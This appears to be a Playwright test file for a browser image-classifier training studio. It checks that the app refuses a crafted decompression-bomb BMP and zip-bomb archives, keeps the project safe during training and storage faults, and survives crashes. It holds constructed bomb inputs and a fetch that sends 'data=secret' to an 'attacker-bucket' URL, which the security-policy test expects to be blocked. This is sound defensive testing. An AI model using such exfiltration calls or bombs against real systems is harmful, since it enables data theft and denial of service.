import { expect, test } from '@playwright/test';
import { strToU8, zipSync } from 'fflate';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  addFolder,
  backboneFiles,
  classImages,
  LONG_TEST_MS,
  makeDatasetFolder,
  openProjectZip,
  SLOW_STEP_MS,
  openBackendChoice,
  studioReady,
  TRAIN_MS,
} from './fixtures';
import { trainSmallProject } from './train-small';

// (Project zips with odd but valid contents are in project-faults.spec.ts.)

const tmp = () => mkdtempSync(join(tmpdir(), 'studio-faults-'));

test('bombs: a 1,080-byte BMP claiming 16000², a zip bomb project, a 10,001-image project and a model zip bomb are refused; nothing is lost', async ({
  page,
}) => {
  test.setTimeout(LONG_TEST_MS);
  const dir = tmp();
  // RLE8, 16000 × 16000, a palette and an end-of-bitmap code (tests/image-bombs.test.ts builds the same)
  const le32 = (n: number) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
  const info = [
    ...le32(40),
    ...le32(16000),
    ...le32(16000),
    1,
    0,
    8,
    0,
    ...le32(1),
    ...le32(2),
    ...le32(0),
    ...le32(0),
    ...le32(256),
    ...le32(0),
  ];
  const bmp = Uint8Array.from([
    0x42,
    0x4d,
    ...le32(1080),
    0,
    0,
    0,
    0,
    ...le32(1078),
    ...info,
    ...new Array(1024).fill(0),
    0,
    1,
  ]);
  expect(bmp.length).toBe(1080);
  writeFileSync(join(dir, 'bomb.bmp'), bmp);

  await studioReady(page, '/');
  await addFolder(page, makeDatasetFolder('sign-language-digits', ['digit_3', 'digit_8'], 5), '5 images in digit_8');
  await page
    .getByRole('region', { name: 'Class digit_3' })
    .getByLabel('Add images to digit_3')
    .setInputFiles(join(dir, 'bomb.bmp'));
  // refused as it is added, from its header alone (nothing decodes it), with the reason; the class
  // keeps its images and the page keeps answering
  await expect(page.getByRole('status').filter({ hasText: 'Skipped' })).toContainText(
    'Skipped 1 image that cannot be read: bomb.bmp: it is 16000×16000 pixels (256 megapixels); a BMP is decoded at full size',
    { timeout: SLOW_STEP_MS },
  );
  await expect(page.getByLabel('5 images in digit_3')).toBeVisible();
  await expect(page.getByRole('img', { name: 'bomb.bmp' })).toHaveCount(0);
  await page.getByText('Training settings').click();
  await page.getByLabel('Epochs').fill('2');
  await page.getByRole('button', { name: 'Train', exact: true }).click();
  await expect(page.getByText('Training finished')).toBeVisible({ timeout: TRAIN_MS });

  // project zips: a bomb (zeros at ~1000:1) and 10,001 records pointing at two photos
  const zeros: Record<string, Uint8Array> = { 'project.json': strToU8('{}') };
  for (let i = 0; i < 12; i++) zeros[`images/a/${i}.png`] = new Uint8Array(8 * 2 ** 20);
  writeFileSync(join(dir, 'bomb.zip'), zipSync(zeros, { level: 1 }));
  const photo = readFileSync(classImages('sign-language-digits', 'digit_3')[0]);
  const many = {
    version: 1,
    settings: {},
    backboneId: 'mobilenet-v1-0.25',
    savedAt: '',
    classes: [
      {
        id: 'c',
        name: 'a',
        images: Array.from({ length: 10_001 }, (_, i) => ({
          id: `i${i}`,
          name: 'a.jpg',
          type: 'image/jpeg',
          path: `images/${i % 2}.jpg`,
        })),
      },
    ],
  };
  writeFileSync(
    join(dir, 'many.zip'),
    zipSync({ 'project.json': strToU8(JSON.stringify(many)), 'images/0.jpg': photo, 'images/1.jpg': photo }),
  );
  for (const [name, reason] of [
    ['bomb.zip', /The project zip was refused: .*zip bomb\. Nothing was imported\./],
    ['many.zip', /lists 10001 images; a project holds at most 10000/],
  ] as const) {
    await openProjectZip(page, join(dir, name), true);
    await expect(page.getByRole('alert').filter({ hasText: name })).toContainText(reason, { timeout: SLOW_STEP_MS });
    await expect(page.getByLabel('5 images in digit_3')).toBeVisible();
  }

  // a model zip whose model.json names a weight file of zeros at ~1000:1
  const model = { modelTopology: {}, weightsManifest: [{ paths: ['zeros.bin'], weights: [] }] };
  writeFileSync(
    join(dir, 'model-bomb.zip'),
    zipSync(
      {
        'model.json': strToU8(JSON.stringify(model)),
        'metadata.json': strToU8('{"labels":["a","b"]}'),
        'zeros.bin': new Uint8Array(96 * 2 ** 20),
      },
      { level: 1 },
    ),
  );
  await page.getByLabel(/^Import a model/).setInputFiles(join(dir, 'model-bomb.zip'));
  await expect(page.getByRole('alert').filter({ hasText: 'model-bomb.zip' })).toContainText(
    /The model zip was refused: "zeros\.bin" .*zip bomb/,
    { timeout: SLOW_STEP_MS },
  );
  await expect(page.getByLabel('5 images in digit_3')).toBeVisible();
});

test("the policy blocks a fetch to a foreign storage.googleapis.com bucket; the backbones' own paths still pass", async ({
  page,
  context,
}) => {
  // answered here (no internet): a request that reaches the route was allowed by the page's policy
  const reached: string[] = [];
  await context.route(/^https:\/\/storage\.googleapis\.com\//, (route) => {
    reached.push(route.request().url());
    return route.fulfill({
      status: 200,
      body: '{}',
      headers: { 'access-control-allow-origin': '*', 'content-type': 'application/json' },
    });
  });
  await page.goto('/');
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
    const tryFetch = (url: string) =>
      fetch(url).then(
        (r) => r.status,
        () => 'blocked',
      );
    const foreign = await tryFetch('https://storage.googleapis.com/attacker-bucket/collect?data=secret');
    const own = await tryFetch('https://storage.googleapis.com/tfjs-models/tfjs/mobilenet_v1_0.25_224/model.json');
    const sibling = await tryFetch('https://storage.googleapis.com/tfjs-models/tfjs/other-model/model.json');
    await new Promise((r) => setTimeout(r, 100));
    return { foreign, own, sibling, violations };
  });
  expect(outcome.foreign).toBe('blocked');
  expect(outcome.sibling).toBe('blocked');
  expect(outcome.own).toBe(200);
  expect(outcome.violations.join('\n')).toContain('connect-src https://storage.googleapis.com/attacker-bucket/collect');
  expect(reached).toEqual(['https://storage.googleapis.com/tfjs-models/tfjs/mobilenet_v1_0.25_224/model.json']);
});

test('mid-run: the backbone, class and image edits are locked with the reason; Stop gives them back and the model is usable', async ({
  page,
}) => {
  test.setTimeout(LONG_TEST_MS);
  await studioReady(page, '/');
  // an empty project's one main action is adding images: the camera has no model to show yet
  const startCamera = page.getByRole('button', { name: 'Start camera' });
  const addFolders = page.locator('label', { has: page.getByText('Add folders…', { exact: true }) });
  await expect(addFolders).toHaveClass(/\bprimary\b/);
  await expect(startCamera).not.toHaveClass(/\bprimary\b/);
  await addFolder(page, makeDatasetFolder('sign-language-digits', ['digit_4', 'digit_5'], 8), '8 images in digit_5');
  await expect(addFolders).not.toHaveClass(/\bprimary\b/);
  await page.getByText('Training settings').click();
  await page.getByLabel('Epochs').fill('1000');
  await page.getByLabel(/Early-stopping patience/).fill('0');
  await page.getByRole('button', { name: 'Train', exact: true }).click();
  await expect(page.getByRole('button', { name: 'Stop' })).toBeEnabled();
  await expect(page.getByRole('radio', { name: /^MobileNetV2 α0\.35 \d/ })).toBeDisabled();
  await expect(page.getByText(/The backbone cannot change while training runs/)).toBeVisible();
  // loading the backbone's files again says the same, instead of doing nothing
  const files = page.getByLabel('Load backbone from files…');
  await expect(files).toBeDisabled();
  await expect(files).toHaveAccessibleDescription(/The backbone cannot change while training runs/);
  await expect(page.getByRole('button', { name: 'Delete class digit_4' })).toBeDisabled();
  const thumbs = page.getByRole('region', { name: 'Class digit_4' }).locator('.thumb-cell');
  const remove = thumbs.first().locator('.thumb-remove');
  await expect(remove).toBeDisabled();
  // a × that cannot remove is not drawn, even on the thumbnail under the pointer (a grey × showed on
  // every thumbnail through the run)
  await thumbs.first().hover();
  await expect(remove).toBeHidden();
  await expect(page.getByTestId('data-locked')).toHaveText(
    /Training is running: Stop it to rename, move or delete classes and images, or to change the backbone/,
  );
  await expect(page.getByLabel('Epochs')).toBeDisabled();
  // typing into a class name changes nothing while the run uses it
  await page.getByRole('region', { name: 'Class digit_4' }).getByLabel('Class name').press('x');
  await expect(page.getByRole('region', { name: 'Class digit_4' })).toBeVisible();
  await expect(page.getByText(/Training: epoch \d+ of 1000/)).toBeVisible({ timeout: SLOW_STEP_MS });
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(page.getByText('Training stopped')).toBeVisible({ timeout: SLOW_STEP_MS });
  await expect(page.getByRole('radio', { name: /^MobileNetV2 α0\.35 \d/ })).toBeEnabled();
  await expect(files).toBeEnabled();
  await expect(page.getByRole('button', { name: 'Delete class digit_4' })).toBeEnabled();
  await expect(page.getByTestId('data-locked')).toHaveCount(0);
  // usable again, the × shows on the thumbnail under the pointer
  await thumbs.nth(1).hover();
  await thumbs.first().hover();
  await expect(remove).toBeVisible();
  await expect(remove).toHaveCSS('opacity', '1');
  // with a model to show it to, the camera's Start is the panel's main action
  await expect(startCamera).toHaveClass(/\bprimary\b/);
  // the last good model is kept and answers
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download model (zip)' }).click(),
  ]);
  expect(await download.failure()).toBeNull();
});

test.describe('storage', () => {
  // the tiny quota is IndexedDB's; the service worker's 5.4 MB precache would fill it first
  test.use({ serviceWorkers: 'block' });

  test('browser storage too full for the trained model: the page says so', async ({ page }) => {
    test.setTimeout(LONG_TEST_MS);
    // the images (a few kB each) fit; the trained model's zip (about 2 MB) does not
    await page.route(/storage\.googleapis\.com/, (route) => route.abort());
    const cdp = await page.context().newCDPSession(page);
    await cdp.send('Storage.overrideQuotaForOrigin', {
      origin: new URL(test.info().project.use.baseURL!).origin,
      quotaSize: 900_000,
    });
    await studioReady(page, '/');
    await trainSmallProject(page, { classes: ['digit_6', 'digit_7'], perClass: 5, epochs: 2 });
    await expect(
      page.getByRole('alert').filter({ hasText: /^The trained model is not kept for your next visit/ }),
    ).toContainText(
      'it works until you close this page or change the backbone or its backend. Download it to keep it.',
      {
        timeout: SLOW_STEP_MS,
      },
    );
    // another backbone would drop it: asked first, and Cancel keeps the backbone and the model
    const current = page.getByRole('radio', { name: /^MobileNet v1 α0\.25 1\.9 MB/ });
    await page.getByRole('radio', { name: /^MobileNetV2 α0\.35 \d/ }).click();
    const ask = page.getByRole('alertdialog', { name: 'Pick MobileNetV2 α0.35?' });
    await expect(ask).toContainText('the backbone the model was trained on, which drops the trained model');
    await ask.getByRole('button', { name: 'Cancel' }).click();
    await expect(ask).toHaveCount(0);
    await expect(current).toBeChecked();
    await expect(page.getByText('Training finished')).toBeVisible();
    // so does the backend: the select stays on the one the model lives on
    await openBackendChoice(page);
    const backend = page.getByRole('combobox', { name: 'Backend' });
    const active = await backend.inputValue();
    const values = await backend.locator('option').evaluateAll((os) => os.map((o) => (o as HTMLOptionElement).value));
    const other = values.find((o) => o !== active);
    expect(other).toBeTruthy();
    await backend.selectOption(other!);
    const move = page.getByRole('alertdialog', { name: `Move the backbone to ${other}?` });
    await move.getByRole('button', { name: 'Cancel' }).click();
    await expect(backend).toHaveValue(active);
    await expect(page.getByTestId('active-backend')).toHaveText(active);
    // New project's undo cannot bring it back either: its question says so
    await page.getByRole('button', { name: 'New project' }).click();
    const replace = page.getByRole('alertdialog', { name: 'Start a new project?' });
    await expect(replace).toContainText(
      'Its trained model is not kept in this browser’s storage, so Undo cannot bring it back',
    );
    await replace.getByRole('button', { name: 'Cancel' }).click();
    // the model is still there to download
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download model (zip)' }).click(),
    ]);
    expect(await download.failure()).toBeNull();

    // a backbone you bring replaces the loaded one too: asked first
    await page.getByText('Bring your own backbone').click();
    await page.getByLabel('Choose model.json and weights…').setInputFiles(backboneFiles('mobilenet_v1_0.25_224'));
    await expect(page.getByTestId('custom-inspection')).toContainText('224×224 input', { timeout: SLOW_STEP_MS });
    const use = page.getByRole('button', { name: 'Use this backbone' });
    await use.click();
    const adopt = page.getByRole('alertdialog', { name: 'Use your backbone?' });
    await expect(adopt).toContainText('Using it replaces MobileNet v1 α0.25, the backbone the model was trained on');
    await adopt.getByRole('button', { name: 'Cancel' }).click();
    await expect(use).toBeFocused();
    await expect(current).toBeChecked();
    await expect(page.getByText('Training finished')).toBeVisible();
    await use.click();
    await adopt.getByRole('button', { name: 'Use it anyway' }).click();
    const mine = page.getByRole('radio', { name: /\(yours, features from conv_pw_13_relu and conv_pw_11_relu\)/ });
    await expect(mine).toBeChecked({ timeout: SLOW_STEP_MS });
    // trained on it and not kept either, taking it off the list (which unloads it) asks too
    await page.getByRole('button', { name: 'Train', exact: true }).click();
    await expect(page.getByText('Training finished')).toBeVisible({ timeout: TRAIN_MS });
    await expect(
      page.getByRole('alert').filter({ hasText: /^The trained model is not kept for your next visit/ }),
    ).toBeVisible({ timeout: SLOW_STEP_MS });
    const remove = page.getByRole('button', {
      name: /^Remove .*\(yours, features from conv_pw_13_relu and conv_pw_11_relu\) from the list$/,
    });
    await remove.click();
    const forget = page.getByRole('alertdialog', {
      name: /^Remove .*\(yours, features from conv_pw_13_relu and conv_pw_11_relu\)\?$/,
    });
    await expect(forget).toContainText('the backbone the model was trained on, which drops the trained model');
    await forget.getByRole('button', { name: 'Cancel' }).click();
    await expect(mine).toBeChecked();
    await expect(remove).toBeFocused();
    await expect(page.getByText('Training finished')).toBeVisible();

    // closing the page would lose that model: the browser asks ("Stay on page" here)
    const asked: string[] = [];
    page.on('dialog', (dialog) => {
      asked.push(dialog.type());
      void dialog.dismiss();
    });
    await expect(page.reload({ timeout: 3_000 })).rejects.toThrow(/Timeout/);
    expect(asked).toEqual(['beforeunload']);
    // once its zip is downloaded the person holds it: the page says what brings it back
    const [kept] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download model (zip)' }).click(),
    ]);
    expect(await kept.failure()).toBeNull();
    await expect(
      page.getByRole('alert').filter({ hasText: /^The trained model is not kept for your next visit/ }),
    ).toContainText('You downloaded it: “Import a model (zip)…”, in Try it, brings it back after a reload.');
    await page.getByRole('button', { name: 'New project' }).click();
    await expect(replace).toContainText('Undo cannot bring it back; the zip you downloaded can');
    await replace.getByRole('button', { name: 'Cancel' }).click();
    // (that a close is then not asked for the model is tests/leave-guard.test.ts's: under this tiny
    // quota the autosave may be failing too, which rightly still asks)
  });
});

test('a crash in one part of the page (the large image view) shows a message there; the project and the rest of the studio stay', async ({
  page,
}) => {
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  // test hook: the large view throws while it is drawn
  await studioReady(page, '/?fault=crash-large-view');
  await addFolder(page, makeDatasetFolder('sign-language-digits', ['digit_0', 'digit_1'], 4), '4 images in digit_1');
  await page.getByRole('button', { name: 'Review all 4 images of digit_0' }).click();
  const dialog = page.getByRole('dialog', { name: /^digit_0: / });
  await dialog.getByRole('listbox', { name: 'Images of digit_0' }).getByRole('option').first().dblclick();
  const alert = dialog.getByRole('alert');
  await expect(alert).toContainText(
    'Something went wrong in the large image view. Your project, images and trained model are kept',
  );
  // the program's words wait behind "Details", for a bug report
  await expect(alert.getByText(/test hook: the large view of/)).toBeHidden();
  await alert.getByText('Details for a bug report').click();
  await expect(alert.getByText(/test hook: the large view of/)).toBeVisible();
  // the grid around it still works, and Try again puts the grid back
  await expect(dialog.getByRole('heading')).toHaveText('digit_0: 4 images');
  await alert.getByRole('button', { name: 'Try again' }).click();
  await expect(alert).toHaveCount(0);
  await expect(dialog.getByRole('listbox', { name: 'Images of digit_0' }).getByRole('option')).toHaveCount(4);
  await dialog.getByRole('button', { name: 'Close' }).click();
  // the page was never blanked: every step is there with the project in it
  await expect(page.getByLabel('4 images in digit_0')).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Train', exact: true })).toBeVisible();
  expect(errors).toEqual([]);
});

test('a training worker whose script does not load (a deploy replaced it) is said, with the way out; the page does not wait forever', async ({
  page,
}) => {
  // a first visit, before the service worker has cached the lazy chunks: the worker's file 404s
  await page.route(/\/assets\/studio\.worker-[^/]*\.js$/, (route) => route.fulfill({ status: 404, body: 'gone' }));
  await page.goto('/');
  // where the backbone would load, and where the backend would start
  for (const region of ['Backbone', 'Compute backend'])
    await expect(page.getByRole('region', { name: region }).getByRole('alert')).toContainText(
      /The studio's training worker could not be started .*Reload the page\./,
      { timeout: SLOW_STEP_MS },
    );
});
